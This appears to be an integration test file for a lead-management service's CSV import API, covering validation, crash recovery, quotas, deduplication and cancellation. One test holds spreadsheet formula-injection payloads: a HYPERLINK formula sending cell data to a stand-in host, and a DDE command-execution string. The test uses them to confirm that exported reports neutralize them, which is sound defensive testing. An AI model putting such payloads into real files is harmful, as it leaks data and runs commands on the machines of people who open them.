import { eventually } from '@leadflow/platform/testing';
import Redis from 'ioredis';
import { parse } from 'csv-parse/sync';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { escapeCsvFormula } from '../src/common/csv-cell';
import { BATCH_MAX_ROWS } from '../src/imports/import-processor';
import { signatureHeader } from '../src/webhooks/webhook-signature';
import type { Answer, Registered } from './stack';
import { HEADER, csvLine, generate, phone } from './factories/csv.factory';
import type { GeneratedRow, Kind } from './factories/csv.factory';
import * as webhooks from './factories/webhook.factory';
import { IntakeStack, testRedisUrl } from './stack';

interface CreatedWebhook {
  id: string;
  secret: string;
}
interface ImportView {
  id: string;
  status: string;
  fileName: string;
  webhookId: string;
  workspaceId: string;
  total: number | null;
  processed: number;
  accepted: number;
  duplicates: number;
  rejected: number;
  ratePerSecond: number | null;
  etaSeconds: number | null;
  startedAt: string | null;
  finishedAt: string | null;
  error: string | null;
  errorCode: string | null;
  columns: Record<string, string | null>;
}
interface Problem {
  status: number;
  code: string;
  errors?: { field: string; rule: string; message: string }[];
}

const MAX_BYTES = 24 * 1024 * 1024;

/** Why a bad row is refused: the field and rule its error report line names. */
const REFUSAL: Record<string, { field: string; rule: string }> = {
  bad_phone: { field: 'phone', rule: 'phone_length' },
  bad_email: { field: 'email', rule: 'email_invalid' },
  no_contact: { field: 'phone', rule: 'contact_required' },
  out_of_range: { field: 'monthlyElectricBill', rule: 'range' },
};

/** The counts and side effects an import of `rows` must have, row by row as if each row had been posted alone. */
function expectationsOf(rows: GeneratedRow[]) {
  const filled = new Set<number>();
  let updatedContacts = 0;
  const count = (kind: Kind) => rows.filter((r) => r.kind === kind).length;
  for (const row of rows) {
    if (
      row.kind === 'dup' &&
      row.of !== undefined &&
      rows[row.of - 1].values[3] === '' &&
      !filled.has(row.of)
    ) {
      filled.add(row.of);
      updatedContacts++;
    }
  }
  const good = count('good');
  const dup = count('dup');
  const bad = rows.length - good - dup - count('repeat');
  return {
    processed: rows.length,
    accepted: good,
    duplicates: dup + count('repeat'),
    rejected: bad,
    storedLeads: good + dup,
    duplicateLeads: dup,
    contacts: good,
    updatedContacts,
  };
}

describe('CSV imports (gateway + identity + ingestion, real PostgreSQL, Kafka, Redis)', () => {
  const stack = new IntakeStack('imports', {
    basePort: 14400,
    ingestionEnv: { IMPORT_MAX_BYTES: String(MAX_BYTES) },
  });

  const api = <T = Record<string, unknown>>(method: string, path: string, token: string, body?: unknown) =>
    stack.call<T>(method, path, { body, token });

  const upload = async <T = ImportView>(
    token: string,
    parts: { webhookId?: string; columnMapping?: string; file?: Buffer; fileName?: string; type?: string },
  ): Promise<Answer<T>> => {
    const form = new FormData();
    if (parts.webhookId !== undefined) form.append('webhookId', parts.webhookId);
    if (parts.columnMapping !== undefined) form.append('columnMapping', parts.columnMapping);
    if (parts.file !== undefined) {
      form.append(
        'file',
        new Blob([parts.file], { type: parts.type ?? 'text/csv' }),
        parts.fileName ?? 'leads.csv',
      );
    }
    const res = await fetch(`${stack.gateway}/api/v1/imports`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    });
    const text = await res.text();
    return { status: res.status, body: (text ? JSON.parse(text) : {}) as T, headers: res.headers, text };
  };

  const importOf = async (token: string, id: string): Promise<ImportView> => {
    const res = await api<ImportView>('GET', `/api/v1/imports/${id}`, token);
    if (res.status !== 200) throw new Error(`GET import: ${res.status} ${res.text}`);
    return res.body;
  };

  const finished = (token: string, id: string, timeoutMs = 150_000): Promise<ImportView> =>
    eventually(
      () => importOf(token, id),
      (i) => ['completed', 'failed', 'cancelled'].includes(i.status),
      { timeoutMs, intervalMs: 250, what: `import ${id} to finish` },
    );

  const createWebhook = (
    owner: Registered,
    settings: Record<string, unknown> = {},
  ): Promise<CreatedWebhook> =>
    webhooks.createWebhook<CreatedWebhook>(stack, owner, { name: 'CSV vendor', ...settings });

  const outboxCounts = async (
    organizationId: string,
  ): Promise<Record<string, { n: number; keys: number }>> => {
    const { rows } = await stack.db.query<{ type: string; n: number; keys: number }>(
      `SELECT type, count(*)::int AS n, count(DISTINCT message_key)::int AS keys FROM ingestion.outbox
        WHERE (value::jsonb)->>'organizationId' = $1 GROUP BY type`,
      [organizationId],
    );
    return Object.fromEntries(rows.map((r) => [r.type, { n: r.n, keys: r.keys }]));
  };

  beforeAll(async () => {
    await stack.start();
  }, 240_000);

  afterAll(async () => {
    await stack.stop();
  });

  it('refuses bad uploads with problem+json and keeps nothing: 413, 415, 422, 404', async () => {
    const owner = await stack.register('rita');
    const stranger = await stack.register('sam');
    const webhook = await createWebhook(owner);
    const foreign = await createWebhook(stranger);
    const token = owner.accessToken;
    const small = Buffer.from('phone,email\n5122000001,a@example.com\n');

    const tooLarge = Buffer.alloc(MAX_BYTES + 4096, 'x,y\n');
    const cases: [string, Answer<Problem>, number, string, { field: string; rule: string }?][] = [
      [
        'over IMPORT_MAX_BYTES',
        await upload<Problem>(token, { webhookId: webhook.id, file: tooLarge }),
        413,
        'file_too_large',
      ],
      [
        'a PNG',
        await upload<Problem>(token, {
          webhookId: webhook.id,
          file: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]),
          fileName: 'leads.png',
          type: 'image/png',
        }),
        415,
        'not_csv',
      ],
      [
        'an xlsx sent as octet-stream',
        await upload<Problem>(token, {
          webhookId: webhook.id,
          file: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(64)]),
          type: 'application/octet-stream',
        }),
        415,
        'not_csv',
      ],
      [
        'no file',
        await upload<Problem>(token, { webhookId: webhook.id }),
        422,
        'invalid_upload',
        { field: 'file', rule: 'required' },
      ],
      [
        'no webhookId',
        await upload<Problem>(token, { file: small }),
        422,
        'invalid_upload',
        { field: 'webhookId', rule: 'required' },
      ],
      [
        'an empty file',
        await upload<Problem>(token, { webhookId: webhook.id, file: Buffer.from('\r\n\r\n') }),
        422,
        'no_header_row',
        { field: 'file', rule: 'header_row' },
      ],
      [
        'a mapping to an unknown field',
        await upload<Problem>(token, {
          webhookId: webhook.id,
          file: small,
          columnMapping: '{"phone":"telephone"}',
        }),
        422,
        'invalid_column_mapping',
        { field: 'columnMapping.phone', rule: 'unknown_field' },
      ],
      [
        'a mapping of a column the file lacks',
        await upload<Problem>(token, {
          webhookId: webhook.id,
          file: small,
          columnMapping: '{"cell":"phone"}',
        }),
        422,
        'invalid_column_mapping',
        { field: 'columnMapping.cell', rule: 'unknown_column' },
      ],
      [
        'a mapping that is not JSON',
        await upload<Problem>(token, { webhookId: webhook.id, file: small, columnMapping: '{phone' }),
        422,
        'invalid_upload',
        { field: 'columnMapping', rule: 'json' },
      ],
      [
        'an unknown webhook',
        await upload<Problem>(token, { webhookId: '0192f1d2-8c4e-7b3a-9f00-1234567890ab', file: small }),
        404,
        'not_found',
      ],
      [
        "another organization's webhook",
        await upload<Problem>(token, { webhookId: foreign.id, file: small }),
        404,
        'not_found',
      ],
      [
        'a JSON body',
        (await stack.call('POST', '/api/v1/imports', {
          body: { webhookId: webhook.id },
          token,
        })) as Answer<Problem>,
        415,
        'not_multipart',
      ],
    ];
    for (const [what, res, status, code, error] of cases) {
      expect({
        what,
        status: res.status,
        type: res.headers.get('content-type'),
        code: res.body.code,
      }).toEqual({
        what,
        status,
        type: expect.stringContaining('application/problem+json'),
        code,
      });
      if (error) expect(res.body.errors).toEqual(expect.arrayContaining([expect.objectContaining(error)]));
    }

    for (const table of ['imports', 'leads', 'contacts', 'import_rejections']) {
      expect(
        await stack.count(`SELECT count(*) AS n FROM ingestion.${table} WHERE organization_id = $1`, [
          owner.organization.id,
        ]),
      ).toBe(0);
    }
    expect(readdirSync(stack.importDir)).toEqual([]);
  });

  it('imports 100,000 rows with exact counts and error report, surviving kill -9 mid-import without doubled rows', async () => {
    const owner = await stack.register('ines');
    await stack.unlimitedPlan(owner); // the free plan's 500 leads a month would stop it after a batch
    const webhook = await createWebhook(owner);
    const token = owner.accessToken;
    const { csv, rows } = generate(100_000, 737);
    const expected = expectationsOf(rows);

    const started = Date.now();
    const created = await upload<{
      id: string;
      status: string;
      total: number;
      columns: Record<string, string | null>;
    }>(token, { webhookId: webhook.id, file: csv, fileName: 'spring-leads.csv' });
    expect(created.status).toBe(202);
    expect(created.body).toMatchObject({ status: 'queued', total: 100_000 });
    expect(created.body.columns).toEqual({
      first_name: 'firstName',
      last_name: 'lastName',
      phone: 'phone',
      email: 'email',
      address: 'address',
      city: 'city',
      state: 'state',
      zip: 'zip',
      monthly_electric_bill: 'monthlyElectricBill',
      roof_condition: 'roofCondition',
      lead_id: 'externalId',
      notes: null,
    });
    const id = created.body.id;

    // Kill the ingestion process while the import is half done, then start it again.
    const ingestion = stack.process('ingestion-0');
    let atKill: number;
    try {
      await eventually(
        () => stack.count('SELECT processed AS n FROM ingestion.imports WHERE id = $1', [id]),
        (processed) => processed > 0,
        { timeoutMs: 60_000, intervalMs: 20, what: 'the import to commit a batch' },
      );
      ingestion.child.kill('SIGKILL');
      await ingestion.exited;
      atKill = await stack.count('SELECT processed AS n FROM ingestion.imports WHERE id = $1', [id]);
    } finally {
      if (ingestion.child.exitCode === null && ingestion.child.signalCode === null)
        ingestion.child.kill('SIGKILL');
      await ingestion.exited;
      await stack.startProcess('ingestion-0');
    }
    expect(atKill).toBeLessThan(100_000);
    // The restarted worker resumes during bootstrap: wait for it to move on from the last
    // committed batch (never back below it) rather than catch it before it does.
    const resumed = await eventually(
      () => importOf(token, id),
      (i) => i.processed > atKill || i.status !== 'running',
      { timeoutMs: 60_000, intervalMs: 50, what: 'the import to resume after the restart' },
    );
    expect(['running', 'completed']).toContain(resumed.status);
    expect(resumed.processed).toBeGreaterThan(atKill);

    const done = await finished(token, id);
    const seconds = (Date.now() - started) / 1000;
    process.stdout.write(`100,000-row import (killed at ${atKill} rows, resumed): ${seconds.toFixed(1)} s\n`);
    expect(done).toMatchObject({
      status: 'completed',
      fileName: 'spring-leads.csv',
      webhookId: webhook.id,
      workspaceId: owner.workspace.id,
      total: expected.processed,
      processed: expected.processed,
      accepted: expected.accepted,
      duplicates: expected.duplicates,
      rejected: expected.rejected,
      etaSeconds: 0,
      error: null,
    });
    expect(done.ratePerSecond).toBeGreaterThan(0);

    // Every stored row once, as if each row had been posted alone.
    const { rows: leads } = await stack.db.query<{
      n: number;
      rows: number;
      duplicates: number;
      channels: string[];
    }>(
      `SELECT count(*)::int AS n, count(DISTINCT import_row)::int AS rows,
              count(*) FILTER (WHERE status = 'duplicate')::int AS duplicates, array_agg(DISTINCT channel) AS channels
         FROM ingestion.leads WHERE import_id = $1`,
      [id],
    );
    expect(leads[0]).toEqual({
      n: expected.storedLeads,
      rows: expected.storedLeads,
      duplicates: expected.duplicateLeads,
      channels: ['import'],
    });
    const { rows: links } = await stack.db.query<{ row: number; original: number | null; status: string }>(
      `SELECT l.import_row AS row, o.import_row AS original, l.status FROM ingestion.leads l
         LEFT JOIN ingestion.leads o ON o.id = l.duplicate_of_lead_id WHERE l.import_id = $1`,
      [id],
    );
    const byRow = new Map(links.map((l) => [l.row, l]));
    rows.forEach((row, index) => {
      const stored = byRow.get(index + 1);
      if (row.kind === 'good') expect(stored).toEqual({ row: index + 1, original: null, status: 'new' });
      else if (row.kind === 'dup')
        expect(stored).toEqual({ row: index + 1, original: row.of, status: 'duplicate' });
      else expect(stored).toBeUndefined();
    });
    const contactCheck = await stack.db.query<{ contacts: number; phones: number; filled: number }>(
      `SELECT count(*)::int AS contacts, count(DISTINCT phone)::int AS phones,
              count(*) FILTER (WHERE email LIKE 'dup%')::int AS filled
         FROM ingestion.contacts WHERE organization_id = $1`,
      [owner.organization.id],
    );
    expect(contactCheck.rows[0]).toEqual({
      contacts: expected.contacts,
      phones: expected.contacts,
      filled: expected.updatedContacts,
    });

    // One event per stored lead and per new contact, none twice (the killed batch left nothing).
    const events = await outboxCounts(owner.organization.id);
    expect(events).toMatchObject({
      'lead.created': { n: expected.accepted, keys: expected.accepted },
      'lead.duplicate_detected': { n: expected.duplicateLeads, keys: expected.duplicateLeads },
      'contact.created': { n: expected.contacts, keys: expected.contacts },
      'contact.updated': { n: expected.updatedContacts, keys: expected.updatedContacts },
      'lead.rejected': { n: expected.rejected, keys: expected.rejected },
      'import.started': { n: 1, keys: 1 },
      'import.finished': { n: 1, keys: 1 },
    });

    // The error report: every refused row once, in order, with its reason and its values as sent.
    const report = await fetch(`${stack.gateway}/api/v1/imports/${id}/errors`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(report.status).toBe(200);
    expect(report.headers.get('content-type')).toContain('text/csv');
    const lines = parse(await report.text(), { relax_column_count: true }) as string[][];
    expect(lines[0]).toEqual(['row', 'errors', ...HEADER]);
    const refused = rows.map((row, index) => ({ ...row, row: index + 1 })).filter((row) => REFUSAL[row.kind]);
    expect(lines.slice(1).map((l) => Number(l[0]))).toEqual(refused.map((r) => r.row));
    // ...and each one's `lead.rejected` names the import, the row and the reason.
    const { rows: rejections } = await stack.db.query<{ payload: Record<string, unknown> }>(
      `SELECT (value::jsonb)->'payload' AS payload FROM ingestion.outbox
        WHERE type = 'lead.rejected' AND (value::jsonb)->'payload'->>'importId' = $1`,
      [id],
    );
    const rejectionOf = new Map(rejections.map((r) => [r.payload.importRow, r.payload]));
    expect(rejectionOf.size).toBe(refused.length);
    for (const row of refused) {
      const { field } = REFUSAL[row.kind];
      expect(rejectionOf.get(row.row)).toEqual({
        requestId: expect.any(String),
        channel: 'import',
        webhookId: expect.any(String),
        providerId: null,
        importId: id,
        importRow: row.row,
        code: 'invalid_lead',
        reasons: [expect.stringMatching(new RegExp(`^${field}: `))],
      });
    }
    lines.slice(1).forEach((line, index) => {
      const row = refused[index];
      const { field, rule } = REFUSAL[row.kind];
      expect(line[1]).toMatch(new RegExp(`^${field}: .* \\(${rule}\\)$`));
      // As sent, but neutralized where a spreadsheet would read a formula (`+1 555 …` phones).
      expect(line.slice(2)).toEqual(row.values.map(escapeCsvFormula));
    });

    // The file is gone; the list shows the import.
    expect(existsSync(join(stack.importDir, `${id}.csv`))).toBe(false);
    const list = await api<{ items: ImportView[] }>('GET', '/api/v1/imports?limit=5', token);
    expect(list.body.items.map((i) => i.id)).toEqual([id]);
  }, 240_000);

  it("neutralizes the vendor's spreadsheet formulas in the error report, as the lead export does", async () => {
    const owner = await stack.register('fiona');
    const webhook = await createWebhook(owner);
    const csv = Buffer.from(
      [
        ['first_name', 'phone', '@notes'],
        ['=HYPERLINK("http://evil.example/?"&A1,"click")', '555-12', "+cmd|' /C calc'!A0"],
        ['-2+3', '555-13', '@SUM(1+1)'],
        ['Ann', '+1 555 12', 'plain'],
      ]
        .map(csvLine)
        .join('\r\n') + '\r\n',
    );
    const created = await upload(owner.accessToken, { webhookId: webhook.id, file: csv });
    expect(created.status).toBe(202);
    expect(await finished(owner.accessToken, created.body.id)).toMatchObject({
      status: 'completed',
      rejected: 3,
    });
    const report = await fetch(`${stack.gateway}/api/v1/imports/${created.body.id}/errors`, {
      headers: { authorization: `Bearer ${owner.accessToken}` },
    });
    expect(report.status).toBe(200);
    const lines = parse(await report.text(), { relax_column_count: true }) as string[][];
    expect(lines[0]).toEqual(['row', 'errors', 'first_name', 'phone', "'@notes"]);
    expect(lines.slice(1).map((l) => [l[0], ...l.slice(2)])).toEqual([
      ['1', `'=HYPERLINK("http://evil.example/?"&A1,"click")`, '555-12', `'+cmd|' /C calc'!A0`],
      ['2', "'-2+3", '555-13', "'@SUM(1+1)"],
      ['3', 'Ann', "'+1 555 12", 'plain'],
    ]);
  });

  it("counts imported leads toward the organization's monthly lead quota, as webhook posts are", async () => {
    const owner = await stack.register('quinn');
    const webhook = await createWebhook(owner);
    const lines = [csvLine(HEADER)];
    for (let i = 1; i <= 3; i++) {
      const p = phone(415, 900 + i);
      lines.push(
        csvLine([`Q${i}`, 'Quota', p.text, `quota${i}@example.com`, '', '', 'CA', '90210', '', '', '', '']),
      );
    }
    lines.push(csvLine(['Q9', 'Bad', '12', 'not-an-email', '', '', '', '', '', '', '', '']));
    const started = await upload<{ id: string }>(owner.accessToken, {
      webhookId: webhook.id,
      file: Buffer.from(`${lines.join('\n')}\n`),
    });
    expect(started.status).toBe(202);
    expect(await finished(owner.accessToken, started.body.id)).toMatchObject({ accepted: 3, rejected: 1 });
    const redis = new Redis(testRedisUrl());
    try {
      const month = new Date().toISOString().slice(0, 7);
      const quotaKey = `${stack.redisPrefix}quota:${owner.organization.id}:${month}`;
      expect(await redis.get(quotaKey)).toBe('3');

      // The free plan's 500 leads used up: the next upload is refused like a webhook post, and kept nowhere.
      await redis.set(quotaKey, '500', 'KEEPTTL');
      const refused = await upload<{ code: string }>(owner.accessToken, {
        webhookId: webhook.id,
        file: Buffer.from(`${lines.join('\n')}\n`),
      });
      expect(refused.status).toBe(429);
      expect(refused.body.code).toBe('quota_exceeded');
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(
        await stack.count('SELECT count(*) AS n FROM ingestion.imports WHERE organization_id = $1', [
          owner.organization.id,
        ]),
      ).toBe(1);
    } finally {
      redis.disconnect();
    }
  });

  it('stops an import when the monthly lead quota runs out: failed with quota_exceeded, stored batches kept, the rest not read', async () => {
    const owner = await stack.register('uma'); // the free plan
    const token = owner.accessToken;
    const webhook = await createWebhook(owner);
    const limit = await eventually(
      async () => {
        const { rows } = await stack.db.query<{ leads: number | null }>(
          `SELECT (quotas->>'leads')::int AS leads FROM ingestion.organizations WHERE id = $1`,
          [owner.organization.id],
        );
        return rows[0]?.leads ?? null;
      },
      (leads) => leads !== null,
      { what: "the organization's plan quotas to reach ingestion" },
    );
    // A phone per row (one lock key), so every batch holds BATCH_MAX_ROWS rows.
    const size = 3 * BATCH_MAX_ROWS + 250;
    const lines = [csvLine(HEADER)];
    for (let i = 1; i <= size; i++)
      lines.push(csvLine([`U${i}`, '', phone(628, i).text, '', '', '', '', '', '', '', '', '']));
    const redis = new Redis(testRedisUrl());
    try {
      const month = new Date().toISOString().slice(0, 7);
      const quotaKey = `${stack.redisPrefix}quota:${owner.organization.id}:${month}`;
      // 100 leads left: the upload is taken, the first batch is stored whole (it started within the
      // quota), and the import stops before the second.
      const used = limit! - 100;
      await redis.set(quotaKey, String(used), 'EX', 3600);

      const created = await upload<{ id: string }>(token, {
        webhookId: webhook.id,
        file: Buffer.from(lines.join('\n')),
      });
      expect(created.status).toBe(202);
      const id = created.body.id;
      const done = await finished(token, id);
      expect(done).toMatchObject({
        status: 'failed',
        errorCode: 'quota_exceeded',
        total: size,
        processed: BATCH_MAX_ROWS,
        accepted: BATCH_MAX_ROWS,
        duplicates: 0,
        rejected: 0,
        etaSeconds: null,
      });
      expect(done.error).toContain(`rows ${BATCH_MAX_ROWS + 1}… were not imported`);
      expect(done.finishedAt).not.toBeNull();
      expect(await redis.get(quotaKey)).toBe(String(used + BATCH_MAX_ROWS));

      // Exactly the first batch's rows are stored; none after it.
      const { rows } = await stack.db.query<{ n: number; last: number; last_row: number }>(
        `SELECT count(*)::int AS n, max(l.import_row)::int AS last, i.last_row
           FROM ingestion.leads l JOIN ingestion.imports i ON i.id = l.import_id
          WHERE l.import_id = $1 GROUP BY i.last_row`,
        [id],
      );
      expect(rows).toEqual([{ n: BATCH_MAX_ROWS, last: BATCH_MAX_ROWS, last_row: BATCH_MAX_ROWS }]);
      // Ended as any other import: one import.finished with the counts, the file deleted.
      const finishedEvents = await stack.db.query<{ value: string }>(
        `SELECT value FROM ingestion.outbox WHERE type = 'import.finished' AND message_key = $1`,
        [id],
      );
      expect(finishedEvents.rows.map((r) => (JSON.parse(r.value) as { payload: unknown }).payload)).toEqual([
        expect.objectContaining({
          id,
          status: 'failed',
          errorCode: 'quota_exceeded',
          processed: BATCH_MAX_ROWS,
          accepted: BATCH_MAX_ROWS,
        }),
      ]);
      expect(existsSync(join(stack.importDir, `${id}.csv`))).toBe(false);

      // The quota is used up now: the next upload is refused outright.
      const refused = await upload<{ code: string }>(token, {
        webhookId: webhook.id,
        file: Buffer.from(lines.join('\n')),
      });
      expect(refused.status).toBe(429);
    } finally {
      redis.disconnect();
    }
  }, 120_000);

  it('finds one contact per person whatever the dedup keys; only a dedup key makes a repeat a duplicate', async () => {
    const owner = await stack.register('dora');
    const token = owner.accessToken;
    const lines = [csvLine(HEADER)];
    const person = phone(650, 1);
    const row = (lead: string, email = '') =>
      csvLine(['Dora', 'Day', person.text, email, '', '', '', '', '', '', lead, '']);
    lines.push(
      row('K-1'),
      row('K-2', 'dora@example.com'),
      row('K-3'),
      row('K-1'),
      row('K-5', 'dora@example.com'),
    );
    const file = Buffer.from(lines.join('\n'));
    const outcome = async (dedupMatch: string[]) => {
      const webhook = await createWebhook(owner, { dedupMatch, dedupScope: 'webhook' });
      const created = await upload<{ id: string }>(token, { webhookId: webhook.id, file });
      expect(created.status).toBe(202);
      const done = await finished(token, created.body.id);
      const { rows } = await stack.db.query<{ import_row: number; status: string; contact_id: string }>(
        `SELECT import_row, status, contact_id FROM ingestion.leads WHERE import_id = $1 ORDER BY import_row`,
        [created.body.id],
      );
      return { done, rows, contacts: new Set(rows.map((r) => r.contact_id)).size };
    };

    // External ids only: the same phone is the same contact, but no lead is a duplicate; the
    // repeated lead id is a replay.
    const byExternalId = await outcome(['external_id']);
    expect(byExternalId.done).toMatchObject({ status: 'completed', accepted: 4, duplicates: 1, rejected: 0 });
    expect(byExternalId.rows.map((r) => [r.import_row, r.status])).toEqual([
      [1, 'new'],
      [2, 'new'],
      [3, 'new'],
      [5, 'new'],
    ]);
    expect(byExternalId.contacts).toBe(1);

    // E-mail only: the contact is still found by phone; a lead is a duplicate only when the contact
    // already has its e-mail (row 2 brings it, so it is new; rows 3 and 4 have none; row 5 is).
    const byEmail = await outcome(['email']);
    expect(byEmail.rows.map((r) => [r.import_row, r.status])).toEqual([
      [1, 'new'],
      [2, 'new'],
      [3, 'new'],
      [4, 'new'],
      [5, 'duplicate'],
    ]);
    expect(byEmail.done).toMatchObject({ accepted: 4, duplicates: 1 });
    expect(byEmail.contacts).toBe(1);

    // Phone: every repeat of the phone is a duplicate of the first lead.
    const byPhone = await outcome(['phone']);
    expect(byPhone.rows.map((r) => [r.import_row, r.status])).toEqual([
      [1, 'new'],
      [2, 'duplicate'],
      [3, 'duplicate'],
      [4, 'duplicate'],
      [5, 'duplicate'],
    ]);
    expect(byPhone.done).toMatchObject({ accepted: 1, duplicates: 4 });
    expect(byPhone.contacts).toBe(1);
  });

  it('stores one contact per phone when webhook posts and an import of the same people race', async () => {
    const owner = await stack.register('wanda');
    const token = owner.accessToken;
    await stack.unlimitedPlan(owner);
    const webhook = await createWebhook(owner);
    const size = 20_000;
    const lines = [csvLine(HEADER)];
    for (let i = 1; i <= size; i++) {
      lines.push(csvLine([`F${i}`, `L${i}`, phone(214, i).text, '', '', '', '', '', '', '', `I-${i}`, '']));
    }
    const posted = Array.from({ length: 400 }, (_, k) => 1 + k * 50);

    const created = await upload(token, { webhookId: webhook.id, file: Buffer.from(lines.join('\n')) });
    expect(created.status).toBe(202);
    const answers: number[] = [];
    // Last rows first: the import reaches them last, so early posts beat it and later ones do not.
    const queue = [...posted].reverse();
    await Promise.all(
      Array.from({ length: 8 }, async () => {
        for (let i = queue.shift(); i !== undefined; i = queue.shift()) {
          const body = JSON.stringify({
            first_name: `W${i}`,
            phone: phone(214, i, i + 1).text,
            lead_id: `W-${i}`,
          });
          const res = await stack.call('POST', `/webhooks/leads/${webhook.id}`, {
            body,
            headers: {
              'content-type': 'application/json',
              'LeadFlow-Signature': signatureHeader(webhook.secret, body),
            },
          });
          answers.push(res.status);
        }
      }),
    );
    const done = await finished(token, created.body.id);
    expect(done).toMatchObject({ status: 'completed', processed: size, rejected: 0 });
    expect(new Set(answers)).toEqual(new Set(answers.filter((s) => s === 201 || s === 200)));
    expect(done.accepted + done.duplicates).toBe(size);
    // A post that came first is stored new (201) and the import's row is its duplicate; one that
    // came after the import's row is the duplicate (200).
    const first = answers.filter((s) => s === 201).length;
    process.stdout.write(
      `race: ${first} webhook posts before the import's row, ${answers.length - first} after\n`,
    );
    expect(done.duplicates).toBe(first);
    expect(first).toBeGreaterThan(0);

    const check = await stack.db.query<{ contacts: number; phones: number; bad: number }>(
      `SELECT (SELECT count(*)::int FROM ingestion.contacts WHERE organization_id = $1) AS contacts,
              (SELECT count(DISTINCT phone)::int FROM ingestion.contacts WHERE organization_id = $1) AS phones,
              (SELECT count(*)::int FROM (
                 SELECT phone FROM ingestion.leads WHERE organization_id = $1 GROUP BY phone
                 HAVING count(*) FILTER (WHERE status = 'new') <> 1 OR count(DISTINCT contact_id) <> 1) AS x) AS bad`,
      [owner.organization.id],
    );
    expect(check.rows[0]).toEqual({ contacts: size, phones: size, bad: 0 });
    expect(
      await stack.count(`SELECT count(*) AS n FROM ingestion.leads WHERE organization_id = $1`, [
        owner.organization.id,
      ]),
    ).toBe(size + posted.length);
  }, 180_000);

  it('cancels a running import: it stops at the next batch, keeps what it stored, deletes the file, and is audited', async () => {
    const owner = await stack.register('carl');
    await stack.unlimitedPlan(owner); // cancelled, not stopped by the free plan's quota
    const token = owner.accessToken;
    const webhook = await createWebhook(owner);
    const lines = [csvLine(HEADER)];
    for (let i = 1; i <= 60_000; i++)
      lines.push(csvLine([`F${i}`, '', phone(469, i).text, '', '', '', '', '', '', '', '', '']));
    const created = await upload(token, { webhookId: webhook.id, file: Buffer.from(lines.join('\n')) });
    expect(created.status).toBe(202);
    const id = created.body.id;
    await eventually(
      () => importOf(token, id),
      (i) => i.processed > 0,
      { timeoutMs: 60_000, intervalMs: 20, what: 'the import to commit a batch' },
    );

    const cancelled = await api<ImportView>('POST', `/api/v1/imports/${id}/cancel`, token);
    expect(cancelled.status).toBe(200);
    expect(cancelled.body).toMatchObject({ status: 'cancelled' });
    expect(cancelled.body.processed).toBeLessThan(60_000);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const after = await importOf(token, id);
    expect(after).toMatchObject({ status: 'cancelled', processed: cancelled.body.processed });
    expect(await stack.count('SELECT count(*) AS n FROM ingestion.leads WHERE import_id = $1', [id])).toBe(
      after.processed,
    );
    expect(existsSync(join(stack.importDir, `${id}.csv`))).toBe(false);

    expect((await api('POST', `/api/v1/imports/${id}/cancel`, token)).status).toBe(200);
    const events = await outboxCounts(owner.organization.id);
    expect(events['import.finished']).toEqual({ n: 1, keys: 1 });
    expect(
      await stack.count(
        `SELECT count(*) AS n FROM ingestion.audit_log WHERE action = 'import.cancelled' AND target_id = $1`,
        [id],
      ),
    ).toBe(1);

    // Nobody else sees it.
    const stranger = await stack.register('stan');
    expect((await api('GET', `/api/v1/imports/${id}`, stranger.accessToken)).status).toBe(404);
    expect((await api('GET', `/api/v1/imports/${id}/errors`, stranger.accessToken)).status).toBe(404);
    expect((await api('POST', `/api/v1/imports/${id}/cancel`, stranger.accessToken)).status).toBe(404);
  }, 120_000);
});
